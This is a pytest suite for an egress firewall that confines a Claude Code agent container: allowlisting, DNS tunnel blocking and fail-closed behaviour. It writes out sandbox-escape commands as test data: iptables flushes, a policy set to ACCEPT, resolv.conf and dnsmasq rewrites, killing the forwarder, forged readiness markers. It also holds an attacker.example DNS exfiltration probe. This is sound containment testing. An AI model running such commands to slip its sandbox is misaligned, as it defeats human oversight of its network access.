"""The egress firewall against the offline test internet (real engine, real iptables/dnsmasq).

What it promises: allowlist over IPv4 and IPv6, fast REJECT, NXDOMAIN, no DNS tunnel, address
rotation, compose network and gate, fail closed (dead forwarder, broken or unapproved file,
missing tool: one log line, unhealthy, Claude Code refused), and that the agent's user cannot
change any of it. The hostile agent's attacks are in tests/security/test_container_*.py.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from conftest import BUSYBOX_IMAGE, TEST_LABEL, unique_name

from firewall.conftest import Claude, Internet
from firewall.probes import dns, http, resolves

VENV_PYTHON = "/opt/sidecar/bin/python"


@pytest.fixture
def claude(start_claude: Callable[..., Claude]) -> Claude:
    """The default firewalled container: allowed.test allowed."""
    return start_claude()


def in_sets(claude: Claude, address: str) -> bool:
    """True when `address` is in the allowed ipset of its family (asked as root)."""
    name = "sidecar-allow6" if ":" in address else "sidecar-allow4"
    return claude.sh(f"ipset test {name} {address}", user="root")[0] == 0


def test_allowed_reachable_over_ipv4_and_ipv6(claude: Claude, internet: Internet) -> None:
    v4, v6 = internet.addresses["allowed"]
    assert sorted(resolves(claude, "allowed.test")) == sorted([v4, v6])
    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
    assert http(claude, "http://allowed.test/", "-6") == (0, "allowed")
    assert "enforcing" in claude.logs()


def test_subdomain_answers_are_allowed_on_their_own(claude: Claude, internet: Internet) -> None:
    # www.allowed.test has addresses of its own: only its own lookup can have allowed them.
    www4, www6 = internet.addresses["www"]
    assert {www4, www6}.isdisjoint(internet.addresses["allowed"])
    assert http(claude, f"http://{www4}/")[0] == 7
    assert not in_sets(claude, www4) and not in_sets(claude, www6)
    assert sorted(resolves(claude, "www.allowed.test")) == sorted([www4, www6])
    assert in_sets(claude, www4) and in_sets(claude, www6)
    assert http(claude, "http://www.allowed.test/", "-4") == (0, "www")
    assert http(claude, "http://www.allowed.test/", "-6") == (0, "www")


def test_blocked_refused_fast_over_both_families(claude: Claude, internet: Internet) -> None:
    assert resolves(claude, "blocked.test") == []
    assert http(claude, "http://blocked.test/")[0] == 6  # could not resolve
    v4, v6 = internet.addresses["blocked"]
    # Raw addresses: REJECT answers at once (curl exit 7), a DROP would time out (exit 28).
    for url in (f"http://{v4}/", f"http://[{v6}]/"):
        code, body = http(claude, url)
        assert code == 7, (url, body)
        assert "Couldn't connect" in body or "Connection refused" in body
    # Root in the container is filtered the same way (only DNS is special-cased for root).
    code, _ = claude.sh(f"curl -sS --connect-timeout 5 http://{v4}/", user="root")
    assert code == 7


def test_dns_nxdomain_and_no_tunnel(claude: Claude, internet: Internet) -> None:
    assert dns(claude, "allowed.test") == "RCODE 0 ANSWERS 1"
    assert dns(claude, "blocked.test").startswith("RCODE 3 ")  # NXDOMAIN
    assert dns(claude, "secret-data.attacker.example").startswith("RCODE 3 ")
    # Control: the rogue resolver answers on a non-DNS port of the compose network...
    rogue_proj = internet.addresses["rogue-proj"][0]
    assert dns(claude, "x.example", rogue_proj, 5353).startswith("RCODE")
    # ...but no query reaches any other resolver: not on the compose network, not on the
    # internet (v4 and v6), not Docker's embedded DNS, which would forward any name.
    rogue_v4, rogue_v6 = internet.addresses["rogue-inet"]
    for server in (rogue_proj, rogue_v4, rogue_v6, "127.0.0.11"):
        assert dns(claude, "secret.example", server).startswith("REFUSED"), server


def test_rotation_needs_only_a_new_lookup(claude: Claude, internet: Internet) -> None:
    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
    old_v4, _ = internet.addresses["allowed"]
    new_v4, new_v6 = internet.web("allowed", ["allowed.test"], "rotated")
    try:
        assert new_v4 != old_v4
        # The next lookup returns the new addresses and allows them, with no restart.
        assert http(claude, "http://allowed.test/", "-4") == (0, "rotated")
        assert http(claude, "http://allowed.test/", "-6") == (0, "rotated")
        assert http(claude, f"http://[{new_v6}]/") == (0, "rotated")
    finally:
        internet.web("allowed", ["allowed.test"], "allowed")


def test_compose_network_reachable(claude: Claude) -> None:
    # Single-label names (compose services, the gate) resolve through the forwarder.
    assert http(claude, "http://app/") == (0, "app")


@pytest.fixture
def routed_config(internet: Internet, docker_client: Any, tmp_path: Any) -> Iterator[Any]:
    """A busybox app and a real gate on the compose network, and the bridge.yaml folder they
    share (`hello` runs `echo` in the app); both containers are removed after the test."""
    started: list[Any] = []
    try:
        app = docker_client.containers.run(
            BUSYBOX_IMAGE, ["sleep", "600"], detach=True, init=True,
            name=unique_name("sidecar-fw-target"), labels={TEST_LABEL: "1"},
            network=internet.proj.name)
        started.append(app)
        work = tmp_path / "cfg" / ".sidecar"
        work.mkdir(parents=True)
        (work / "bridge.yaml").write_text(
            'version: "1"\n'
            f"containers:\n  app: {app.name}\n"
            "commands:\n  hello:\n    container: app\n    exec: echo\n    workdir: /\n")
        gate = docker_client.containers.create(
            internet.image, ["sidecar", "proxy", "--config", "/cfg/.sidecar/bridge.yaml"],
            entrypoint=[], user="root", name=unique_name("sidecar-fw-gate"),
            labels={TEST_LABEL: "1"},
            volumes={"/var/run/docker.sock": {"bind": "/var/run/docker.sock", "mode": "ro"},
                     str(work.parent): {"bind": "/cfg", "mode": "ro"}},
            network=internet.proj.name)
        started.append(gate)
        internet.proj.disconnect(gate)
        internet.proj.connect(gate, aliases=["sidecar-gate"])
        gate.start()
        yield work
    finally:
        for container in started:
            container.remove(force=True)


def routed_ok(claude: Claude) -> None:
    code, out = claude.sh("for i in $(seq 50); do hello routed ok && exit 0; sleep 0.2; "
                          "done; exit 1")
    assert code == 0, out
    assert out.strip().splitlines()[-1] == "routed ok"


def test_routed_command_through_the_gate(start_claude: Callable[..., Claude],
                                         routed_config: Any) -> None:
    # No approved allowlist: the firewall fails closed, and the compose network (the gate, the
    # services) still works.
    claude = start_claude(volumes={str(routed_config): {"bind": "/workspace/.sidecar",
                                                        "mode": "ro"}}, domains=None)
    assert "FIREWALL FAILED CLOSED" in claude.logs()
    routed_ok(claude)


def test_routed_command_with_the_firewall_enforcing(start_claude: Callable[..., Claude],
                                                    routed_config: Any) -> None:
    claude = start_claude(volumes={str(routed_config): {"bind": "/workspace/.sidecar",
                                                        "mode": "ro"}})
    assert "firewall enforcing" in claude.logs()
    routed_ok(claude)
    assert claude.sh("test -e /var/run/docker.sock")[0] == 1


def test_killed_forwarder_fails_closed(claude: Claude, internet: Internet) -> None:
    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
    code, _ = claude.sh("kill $(cat /run/sidecar/firewall/dnsmasq.pid)", user="root")
    assert code == 0
    code, report = claude.sh("sidecar firewall status", user="root")
    assert code == 1, report
    assert "state:      degraded" in report
    assert "NOT running" in report
    # Unhealthy, and Claude Code does not start any more.
    assert claude.health() == (1, "FIREWALL DEGRADED: the DNS forwarder (dnsmasq) is not "
                               "running, nothing resolves; Claude Code will not start. To fix: "
                               "docker compose restart claude")
    code, out = claude.claude_code()
    assert (code, out.splitlines()[0]) == (1, "claude: FIREWALL DEGRADED: the DNS forwarder "
                                              "(dnsmasq) is not running, nothing resolves; "
                                              "Claude Code will not start. To fix: docker "
                                              "compose restart claude")
    # Nothing resolves any more, and nothing new is allowed.
    assert resolves(claude, "allowed.test") == []
    assert dns(claude, "www.allowed.test").startswith("REFUSED")
    v4, _ = internet.addresses["blocked"]
    assert http(claude, f"http://{v4}/")[0] == 7


@pytest.mark.parametrize("content", [
    "allowed.test\nhttps://evil.example/path\n",
    "allowed.test\n*.wild.example\n",
    "\udcff".encode("utf-8", "surrogateescape").decode("latin-1") + "\n",
])
def test_broken_domains_file_fails_closed(start_claude: Callable[..., Claude],
                                          internet: Internet, content: str) -> None:
    claude = start_claude(domains=content)
    line = _one_firewall_line(claude)
    assert line.startswith("sidecar: FIREWALL FAILED CLOSED: /run/sidecar/policy/"
                           "allowed-domains.txt")
    assert line.endswith("To fix: fix sidecar.firewall.domains in bridge.yaml, run `sidecar "
                         "render`, then `sidecar up` on the host")
    _assert_locked_down(claude, internet)


def test_missing_domains_file_fails_closed(start_claude: Callable[..., Claude],
                                           internet: Internet) -> None:
    # No approved allowlist (what `sidecar up` installs): closed, and the line says so.
    claude = start_claude(domains=None)
    line = _one_firewall_line(claude)
    assert line.startswith("sidecar: FIREWALL FAILED CLOSED: /run/sidecar/policy/"
                           "allowed-domains.txt: no approved allowlist (No such file or "
                           "directory); egress is blocked except the compose network. Claude "
                           "Code will not start. To fix: run `sidecar up` on the host")
    _assert_locked_down(claude, internet)


def _one_firewall_line(claude: Claude) -> str:
    """The entrypoint's one firewall line (and there is exactly one)."""
    lines = [line for line in claude.logs().splitlines()
             if "firewall" in line.lower() or ("route" in line and "routed" not in line)]
    assert len(lines) == 1, lines
    return lines[0]


@pytest.mark.parametrize("tool", ["/usr/sbin/dnsmasq", "/usr/sbin/ipset"])
def test_missing_tool_fails_closed(start_claude: Callable[..., Claude], internet: Internet,
                                   tool: str) -> None:
    # /dev/null over the binary: present but not executable, as good as missing.
    claude = start_claude(volumes={"/dev/null": {"bind": tool, "mode": "ro"}})
    line = _one_firewall_line(claude)
    assert line.startswith("sidecar: FIREWALL FAILED CLOSED: ")
    assert tool.rsplit("/", 1)[1] in line
    _assert_locked_down(claude, internet)


def test_no_iptables_drops_the_default_routes(start_claude: Callable[..., Claude]) -> None:
    # Neither the rules nor the lockdown can load: the last resort removes the default
    # routes, so only directly attached (compose) networks stay reachable.
    claude = start_claude(volumes={"/dev/null": {"bind": "/usr/sbin/xtables-nft-multi",
                                                 "mode": "ro"}})
    line = _one_firewall_line(claude)
    assert line.startswith("sidecar: FIREWALL FAILED CLOSED: iptables: iptables-restore is not "
                           "installed; no rules could be loaded")
    assert ("no rules could be loaded, so the default routes were removed: only the compose "
            "network is reachable. Claude Code will not start.") in line
    code, routes = claude.sh("ip -4 route show default; ip -6 route show default")
    assert (code, routes.strip()) == (0, "")
    code, report = claude.sh("sidecar firewall status", user="root")
    assert code == 1
    assert "state:      isolated" in report
    assert claude.health()[0] == 1
    assert claude.claude_code()[0] == 1
    # Without rules, an address outside the attached networks has no route any more.
    code, out = claude.py("import errno, socket\n"
                          "try:\n"
                          "    socket.create_connection(('192.0.2.1', 80), timeout=5)\n"
                          "except OSError as e:\n"
                          "    print(errno.errorcode.get(e.errno, e))\n")
    assert (code, out.strip()) == (0, "ENETUNREACH")
    assert http(claude, "http://app/") == (0, "app")


def _assert_locked_down(claude: Claude, internet: Internet) -> None:
    code, report = claude.sh("sidecar firewall status", user="root")
    assert code == 1
    assert "state:      lockdown" in report
    # Not ready: unhealthy, and the wrapper refuses Claude Code with the firewall's line.
    line = _one_firewall_line(claude).removeprefix("sidecar: ")
    assert claude.health() == (1, line)
    assert claude.claude_code() == (1, f"claude: {line}")
    for key in ("allowed", "blocked"):
        v4, v6 = internet.addresses[key]
        assert http(claude, f"http://{v4}/")[0] == 7
        assert http(claude, f"http://[{v6}]/")[0] == 7
    assert http(claude, "http://allowed.test/")[0] in (6, 7)
    # The compose network stays reachable: services, the gate.
    assert http(claude, "http://app/") == (0, "app")


def test_agent_cannot_change_the_firewall(claude: Claude) -> None:
    for script in ("iptables -F OUTPUT", "ip6tables -P OUTPUT ACCEPT", "ipset flush sidecar-allow4",
                   "echo nameserver 1.1.1.1 > /etc/resolv.conf",
                   "echo server=/#/127.0.0.11 >> /run/sidecar/firewall/dnsmasq.conf",
                   "kill $(cat /run/sidecar/firewall/dnsmasq.pid)",
                   "sidecar firewall up"):
        code, out = claude.sh(script)
        assert code != 0, (script, out)
    # The approved allowlist is read-only; the workspace copy is not the firewall's at all.
    code, _ = claude.sh("echo blocked.test >> /run/sidecar/policy/allowed-domains.txt")
    assert code != 0
    code, _ = claude.sh("echo blocked.test >> /workspace/.sidecar/allowed-domains.txt")
    assert code == 0
    assert resolves(claude, "blocked.test") == []
    # Nor can the agent forge readiness, or take the forwarder's place.
    for script in ("/usr/local/sbin/sidecar-health --mark enforcing x",
                   "echo > /run/sidecar/ready", "rm -f /run/sidecar/ready",
                   "echo 1 > /run/sidecar/firewall/dnsmasq.pid"):
        code, out = claude.sh(script)
        assert code != 0, (script, out)
    assert claude.health() == (0, "ready: the firewall is enforcing (uid 1000, gid 1000)")
    code, report = claude.sh("sidecar firewall status --json", user="root")
    assert code == 0, report
    status = json.loads(report)
    assert status["state"] == "enforcing"
    assert status["domains"] == ["allowed.test"]


def test_status_as_root_and_as_the_agent(claude: Claude) -> None:
    assert http(claude, "http://allowed.test/", "-4")[0] == 0
    assert http(claude, "http://allowed.test/", "-6")[0] == 0
    code, report = claude.sh("sidecar firewall status --json", user="root")
    assert code == 0, report
    status = json.loads(report)
    assert status["healthy"] is True
    assert status["forwarder_alive"] is True
    assert status["rules_v4"] is True and status["rules_v6"] is True
    assert status["set_sizes"]["sidecar-allow4"] >= 1
    assert status["set_sizes"]["sidecar-allow6"] >= 1
    code, report = claude.sh("sidecar firewall status")
    assert code == 0, report
    assert "state:      enforcing" in report
    assert "unknown (run as root)" in report


def test_firewall_disabled_means_unfiltered(start_claude: Callable[..., Claude],
                                            internet: Internet) -> None:
    claude = start_claude(env={"SIDECAR_FIREWALL": "0"}, cap=False)
    assert "firewall disabled by bridge.yaml" in claude.logs()
    # Disabled on purpose is ready: Claude Code starts.
    assert claude.health()[0] == 0
    assert claude.claude_code() == (0, "claude-stub uid=1000 args=--version")
    v4, _ = internet.addresses["blocked"]
    assert http(claude, f"http://{v4}/") == (0, "blocked")
    code, report = claude.sh("sidecar firewall status")
    assert code == 0
    assert "disabled" in report


def test_github_ranges_are_allowed_once_added(claude: Claude, internet: Internet) -> None:
    v4, v6 = internet.addresses["blocked"]
    assert http(claude, f"http://{v4}/")[0] == 7
    # Stand in for api.github.com/meta (offline): ranges covering the "blocked" host.
    code, out = claude.py(
        "from sidecar_gen.firewall.github import add_github_ranges\n"
        f"print(add_github_ranges({{'web': ['{v4}/32'], 'git': ['{v6}/128']}}))", user="root",
        python=VENV_PYTHON)
    assert (code, out.strip()) == (0, "2")
    assert http(claude, f"http://{v4}/") == (0, "blocked")
    assert http(claude, f"http://[{v6}]/") == (0, "blocked")
    # The agent cannot add ranges itself.
    code, _ = claude.py("from sidecar_gen.firewall.github import add_github_ranges\n"
                        "add_github_ranges({'web': ['0.0.0.0/1']})", python=VENV_PYTHON)
    assert code != 0


def test_github_meta_unreachable_is_one_line(claude: Claude) -> None:
    # The test internet has no GitHub: the background fetch fails with one clear line.
    code, out = claude.sh("sidecar firewall github", user="root")
    assert code == 1
    assert out.startswith("sidecar: error: github: https://api.github.com/meta not reachable")
    assert len(out.strip().splitlines()) == 1


def test_restart_sets_the_firewall_up_again(claude: Claude) -> None:
    assert http(claude, "http://allowed.test/", "-4") == (0, "allowed")
    claude.container.restart(timeout=10)
    # The marker of the first start does not count: health waits for this start's entrypoint.
    assert claude.health()[0] == 0
    logs = claude.logs()
    assert logs.count("firewall enforcing") == 2, logs
    assert logs.count("ready (uid") == 2, logs
    assert http(claude, "http://allowed.test/", "-6") == (0, "allowed")
    assert resolves(claude, "blocked.test") == []
    code, report = claude.sh("sidecar firewall status", user="root")
    assert code == 0, report
